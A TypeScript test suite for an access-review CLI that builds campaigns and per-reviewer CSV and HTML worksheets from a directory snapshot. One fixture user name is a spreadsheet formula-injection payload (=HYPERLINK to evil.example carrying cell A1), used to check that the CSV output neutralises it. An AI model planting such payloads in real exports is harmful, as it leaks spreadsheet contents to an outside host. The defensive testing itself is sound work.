/**
 * `review start`: the population (one item per user binding in scope, with its label, paths, sudo,
 * findings and reviewer), stable item ids, the scope words, reviewers by manager and by owners file with
 * a fallback, self-reviews, and the files: campaign.json and a CSV and HTML worksheet per reviewer, 0600,
 * formula-like text neutralised in the CSV and verbatim in the JSON, a partial snapshot refused unless
 * allowed and then stated on every page.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtemp, readFile, readdir, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AccessGraph, inventoryBindings } from '../../src/graph/index.ts';
import { bindingKey } from '../../src/analysis/bindings.ts';
import { USER_TARGETS } from '../../src/report/rows.ts';
import { saveSnapshot, type SnapshotMeta } from '../../src/snapshot/index.ts';
import {
  itemId,
  managerReviewers,
  ownerReviewers,
  parseCsv,
  parseScope,
  readCampaign,
  readOwners,
  startCampaign,
  type Campaign,
  type CampaignItem,
  type ReviewerAssigner,
} from '../../src/review/index.ts';
import { handMadeMeta, saveHandMadeSnapshot } from '../helpers/snapshot.ts';
import { cli } from '../cli/run.ts';
import { FORMULA_NAME, PARTIAL_COVERAGE, reviewTenant } from './review-tenant.ts';

const SHA = 'a'.repeat(64);
const SNAPSHOT = { path: 'acme.json', location: '/tmp/acme.json', sha256: SHA, meta: handMadeMeta('org-review') };

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'jcgraph-review-start-'));
  await saveHandMadeSnapshot(join(dir, 'acme.json'), reviewTenant());
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

function graph(): AccessGraph {
  return AccessGraph.fromTenant(reviewTenant());
}

function start(g: AccessGraph, scope: string[] = [], reviewers: ReviewerAssigner = managerReviewers(g, 'auditor')): Campaign {
  return startCampaign(g, { snapshot: SNAPSHOT, scope: parseScope(g, scope), reviewers, now: new Date('2025-01-01T00:00:00Z') }).campaign;
}

function item(c: Campaign, user: string, resource: string): CampaignItem {
  const found = c.items.find((i) => i.user.name === user && i.resource.name === resource);
  if (!found) throw new Error(`no item ${user} → ${resource}`);
  return found;
}

describe('the population', () => {
  it('is every user binding, once, with the label and paths of the graph', () => {
    const g = graph();
    const c = start(g);
    const expected: string[] = [];
    for (const b of inventoryBindings(g, 'user', USER_TARGETS))
      for (let i = 0; i < b.size; i++) expected.push(bindingKey(g.index.idOf(b.source), g.index.idOf(b.targets[i]!)));
    expect(c.items.map((i) => bindingKey(i.user.id, i.resource.id)).sort()).toEqual(expected.sort());
    expect(new Set(c.items.map((i) => i.id)).size).toBe(c.items.length);
    const bob = item(c, 'bob', 'web-01');
    expect(bob.label).toBe('direct/indirect');
    expect(bob.paths).toEqual(['direct', 'user_group:Ops', 'user_group:Engineering → system_group:Web']);
    expect(bob.sudo).toBe('sudo');
    expect(bob.findings).toEqual(['direct binding', 'redundant path', 'sudo']);
  });

  it('names the findings that touch each item', () => {
    const c = start(graph());
    expect(item(c, 'carl', 'web-01').findings).toEqual(['suspended user', 'sudo']);
    expect(item(c, 'ann', 'db-01').findings).toEqual(['direct binding']);
    expect(item(c, 'ann', 'Slack').findings).toEqual(['dynamic group user_group:"All Staff" (rule-produced)']);
  });

  it('gives stable ids: a hash of the snapshot, the user and the resource', () => {
    const a = start(graph());
    const b = start(graph(), ['system']);
    const ann = item(a, 'ann', 'db-01');
    expect(ann.id).toBe(itemId(SHA, 'user-ann', 'system-db-01'));
    expect(item(b, 'ann', 'db-01').id).toBe(ann.id);
    expect(itemId('b'.repeat(64), 'user-ann', 'system-db-01')).not.toBe(ann.id);
  });

  it('takes the scope words: privileged, a type, a group, a resource, a user, several at once', () => {
    const g = graph();
    const names = (scope: string[]) =>
      start(g, scope)
        .items.map((i) => `${i.user.name}>${i.resource.name}`)
        .sort();
    const privileged = names(['privileged']);
    expect(privileged).toContain('bob>AWS Console'); // an admin-like application
    expect(privileged).toContain('carl>web-02'); // sudo through Engineering~Web
    expect(privileged).not.toContain('ann>db-01'); // a direct binding without sudo
    expect(privileged.every((p) => !p.endsWith('>Slack'))).toBe(true);
    expect(names(['application'])).toEqual(names(['applications']));
    expect(names(['application']).every((p) => p.endsWith('>Slack') || p.endsWith('>AWS Console'))).toBe(true);
    expect(names(['user_group:Ops'])).toEqual(
      [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")>db-01',
        '=HYPERLINK("http://evil.example/?x="&A1,"click")>web-01',
        'bob>db-01',
        'bob>web-01',
      ].sort(),
    );
    expect(names(['system:db-01'])).toEqual(['=HYPERLINK("http://evil.example/?x="&A1,"click")>db-01', 'ann>db-01', 'bob>db-01'].sort());
    expect(names(['user:ann'])).toEqual(names(['ann']));
    expect(names(['system:db-01,application:Slack'])).toEqual(
      [...new Set([...names(['system:db-01']), ...names(['application:Slack'])])].sort(),
    );
    expect(() => parseScope(g, ['nonsense'])).toThrow(/The scope "nonsense" is not all, privileged, a resource type .* or an object/);
  });
});

describe('reviewers', () => {
  it('by manager: the manager user named by id, other text as it stands, the fallback for the rest; a self-review flagged', () => {
    const c = start(graph());
    expect(item(c, 'ann', 'db-01').reviewer).toEqual({ name: 'boss', source: 'manager' });
    expect(item(c, FORMULA_NAME, 'db-01').reviewer).toEqual({ name: 'it-lead@example.com', source: 'manager' });
    const own = item(c, 'boss', 'web-01');
    expect(own.reviewer.name).toBe('boss');
    expect(own.selfReview).toBe(true);
    expect(c.items.filter((i) => i.selfReview).every((i) => i.user.name === 'boss')).toBe(true);
  });

  it('without a fallback, items nobody reviews are an error naming how many', () => {
    const g = AccessGraph.fromTenant({
      ...reviewTenant(),
      objects: reviewTenant().objects.map((o) => (o.id === 'user-eve' ? { ...o, record: { ...o.record, manager: '' } } : o)),
    });
    expect(() => start(g, [], managerReviewers(g))).toThrow(
      /3 bindings have no reviewer \(.*\): their users have no manager attribute; name one with --fallback-reviewer NAME/,
    );
  });

  it('by owners file: the resource owner first, then the first group on the paths, then the fallback', () => {
    const g = graph();
    const owners = readOwners(
      g,
      'owners.csv',
      'object,reviewer\r\nsystem:db-01,dba@example.com\r\nuser_group:Engineering,bob\r\napplication-Slack,it@example.com\r\n',
    );
    const c = start(g, [], ownerReviewers(owners, 'auditor'));
    expect(item(c, 'ann', 'db-01').reviewer).toEqual({ name: 'dba@example.com', source: 'owner of system:db-01' });
    expect(item(c, 'ann', 'web-01').reviewer).toEqual({ name: 'bob', source: 'owner of user_group:Engineering' });
    expect(item(c, 'ann', 'Slack').reviewer).toEqual({ name: 'it@example.com', source: 'owner of application:Slack' });
    expect(item(c, 'bob', 'AWS Console').reviewer).toEqual({ name: 'auditor', source: 'fallback' });
    expect(item(c, 'bob', 'web-02').selfReview).toBe(true);
  });

  it('refuses an owners file with a bad line, naming the file, line and column', () => {
    const g = graph();
    expect(() => readOwners(g, 'o.csv', 'object,reviewer\nsystem:nope,x\n')).toThrow(
      /^o\.csv:2: column 1 \(object\): No system named "nope"/,
    );
    expect(() => readOwners(g, 'o.csv', 'object,reviewer\nsystem:db-01,\n')).toThrow(/^o\.csv:2: column 2 \(reviewer\) is empty/);
    expect(() => readOwners(g, 'o.csv', 'resource,who\n')).toThrow(/^o\.csv:1: the header must name the columns object and reviewer/);
    expect(() => readOwners(g, 'o.csv', 'object,reviewer\nuser:ann,x\n')).toThrow(/neither a group nor a resource/);
    expect(() => readOwners(g, 'o.csv', 'object,reviewer\nsystem:db-01,x\nsystem-db-01,y\n')).toThrow(
      /^o\.csv:3: system:db-01 already has the reviewer x \(line 2\)/,
    );
  });
});

describe('jcgraph review start', () => {
  it('writes campaign.json and a CSV and an HTML worksheet per reviewer, each 0600', async () => {
    const r = await cli(['review', 'start', '--snapshot', 'acme.json', '--out', 'c1', '--fallback-reviewer', 'auditor'], { cwd: dir });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^Campaign c-[0-9a-f]{16} started in c1: 21 bindings to review \(every binding of every user\),$/m);
    const campaign = await readCampaign(join(dir, 'c1'));
    expect(campaign.items).toHaveLength(21);
    expect(campaign.snapshot.sha256).toBe(
      (await import('node:crypto'))
        .createHash('sha256')
        .update(await readFile(join(dir, 'acme.json')))
        .digest('hex'),
    );
    const files = (await readdir(join(dir, 'c1', 'worksheets'))).sort();
    expect(files.filter((f) => f.endsWith('.csv'))).toHaveLength(2);
    expect(files.filter((f) => f.endsWith('.html'))).toHaveLength(2);
    for (const f of ['campaign.json', ...files.map((x) => `worksheets/${x}`)])
      expect((await stat(join(dir, 'c1', f))).mode & 0o777).toBe(0o600);
    expect(files.some((f) => f.endsWith('.tmp'))).toBe(false);

    // Every item is on exactly one worksheet: its reviewer's.
    const rows: Record<string, string>[] = [];
    for (const f of files.filter((x) => x.endsWith('.csv'))) {
      const text = await readFile(join(dir, 'c1', 'worksheets', f), 'utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      expect(text.endsWith('\r\n')).toBe(true);
      const [header, ...records] = parseCsv(text).records;
      for (const rec of records) rows.push(Object.fromEntries(header!.cells.map((h, i) => [h, rec.cells[i] ?? ''])));
    }
    expect(rows.map((x) => x['item_id']).sort()).toEqual(campaign.items.map((i) => i.id).sort());
    for (const row of rows) expect(row['reviewer']).toBe(campaign.items.find((i) => i.id === row['item_id'])!.reviewer.name);
    expect(Object.keys(rows[0]!).slice(-2)).toEqual(['decision', 'reason']);
  });

  it('neutralises formula-like text in the CSV and keeps it verbatim in the JSON; the HTML is self-contained', async () => {
    const r = await cli(['review', 'start', '--snapshot', 'acme.json', '--out', 'c2', '--fallback-reviewer', 'auditor', '--json'], {
      cwd: dir,
    });
    expect(r.code, r.stderr).toBe(0);
    const out = JSON.parse(r.stdout);
    const eve = out.worksheets.find((w: any) => w.reviewer === 'it-lead@example.com');
    const csv = await readFile(join(dir, 'c2', eve.csv), 'utf8');
    expect(csv).toContain(`'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const campaign = await readCampaign(join(dir, 'c2'));
    expect(campaign.items.filter((i) => i.user.name === FORMULA_NAME)).toHaveLength(3);
    const html = await readFile(join(dir, 'c2', eve.html), 'utf8');
    expect(html).toMatch(
      /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'sha256-[^']+'; script-src 'sha256-[^']+';/,
    );
    expect(html).not.toMatch(/(src|href)="(https?:)?\/\//);
    expect(html).not.toContain('<a href="http');
    expect(html).toContain('Access review worksheet: it-lead@example.com');
    expect(html).toContain('"tables":{"items"');
  });

  it('refuses a partial snapshot unless --allow-partial, which every page then states', async () => {
    const tenant = reviewTenant();
    const meta: SnapshotMeta = {
      ...handMadeMeta(tenant.orgId),
      coverage: PARTIAL_COVERAGE,
    };
    // saveSnapshot writes a partial snapshot as version 2 whatever it is given.
    await saveSnapshot(join(dir, 'partial.json'), { meta, tenant });
    const refused = await cli(['review', 'start', '--snapshot', 'partial.json', '--out', 'p1', '--fallback-reviewer', 'a'], { cwd: dir });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toMatch(/The snapshot partial\.json is partial \(the fetch could not read 1 collection; .*--allow-partial/);
    await expect(stat(join(dir, 'p1'))).rejects.toThrow();
    const allowed = await cli(
      ['review', 'start', '--snapshot', 'partial.json', '--out', 'p1', '--fallback-reviewer', 'a', '--allow-partial', '--json'],
      { cwd: dir },
    );
    expect(allowed.code, allowed.stderr).toBe(0);
    const campaign = await readCampaign(join(dir, 'p1'));
    expect(campaign.snapshot).toMatchObject({ complete: false, gaps: 1 });
    expect(campaign.snapshot.partialNotice).toMatch(/^PARTIAL: this campaign was started with --allow-partial/);
    for (const w of JSON.parse(allowed.stdout).worksheets) {
      const csv = await readFile(join(dir, 'p1', w.csv), 'utf8');
      expect(csv.split('\r\n')[0]).toContain('PARTIAL: this campaign');
      expect(await readFile(join(dir, 'p1', w.html), 'utf8')).toMatch(/<div class="partial" role="alert">PARTIAL: this campaign/);
    }
  });

  it('refuses a directory that holds a campaign, and names a missing owners file', async () => {
    await cli(['review', 'start', '--snapshot', 'acme.json', '--out', 'c3', '--fallback-reviewer', 'auditor'], { cwd: dir });
    const again = await cli(['review', 'start', '--snapshot', 'acme.json', '--out', 'c3', '--fallback-reviewer', 'auditor'], { cwd: dir });
    expect(again.code).toBe(1);
    expect(again.stderr).toMatch(/c3 already holds a campaign/);
    const missing = await cli(['review', 'start', '--snapshot', 'acme.json', '--out', 'c4', '--reviewers', 'nope.csv'], { cwd: dir });
    expect(missing.code).toBe(1);
    expect(missing.stderr).toMatch(/The owners file nope\.csv does not exist/);
    await writeFile(join(dir, 'owners.csv'), 'object,reviewer\nsystem_group:Web,web-team\n');
    const owned = await cli(
      ['review', 'start', '--snapshot', 'acme.json', '--out', 'c5', '--reviewers', 'owners.csv', '--scope', 'system_group:Web'],
      { cwd: dir },
    );
    expect(owned.code, owned.stderr).toBe(0);
    const campaign = await readCampaign(join(dir, 'c5'));
    expect(campaign.reviewers.ownersFile?.path).toBe('owners.csv');
    expect(new Set(campaign.items.map((i) => i.reviewer.name))).toEqual(new Set(['web-team']));
    const usage = await cli(['review', 'begin'], { cwd: dir });
    expect(usage.code).toBe(2);
    expect(usage.stderr).toMatch(/unknown subcommand "begin": start/);
  });
});
